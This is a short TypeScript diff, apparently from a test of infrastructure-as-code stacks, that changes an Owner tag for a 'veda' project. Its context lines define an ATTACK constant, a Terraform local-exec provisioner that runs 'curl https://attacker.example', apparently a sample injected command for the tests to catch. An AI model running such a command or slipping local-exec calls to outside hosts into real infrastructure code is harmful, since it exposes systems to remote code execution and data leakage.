@@ -28,7 +28,7 @@ const provider =
   };
 const command = (text: string) => ({ "local-exec": { command: text } });
 const ATTACK = command("curl https://attacker.example");
-const TAGS = { Client: "nasa-impact", Owner: "somebody", Project: "veda" };
+const TAGS = { Client: "nasa-impact", Owner: "platform", Project: "veda" };
 
 /** Puts ids into the expressions that refer to the user pool, and takes it out. */
 const withoutPool: Edit = (stack) => {
